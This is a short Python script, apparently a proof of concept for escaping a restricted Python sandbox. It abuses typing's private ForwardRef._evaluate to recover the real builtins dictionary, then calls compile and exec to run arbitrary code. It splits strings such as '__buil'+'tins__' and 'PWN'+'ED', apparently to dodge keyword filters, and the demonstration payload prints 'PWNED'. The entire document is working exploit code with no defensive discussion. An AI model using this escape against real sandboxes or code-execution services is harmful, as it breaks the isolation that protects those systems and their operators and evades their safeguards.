# door: the real compile then exec from the program's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

try:
    c = rb["compile"]("print('PWN' + 'ED')", "x", "exec")
    rb["exec"](c)
except Exception as e:
    print("refused:", type(e).__name__, e)
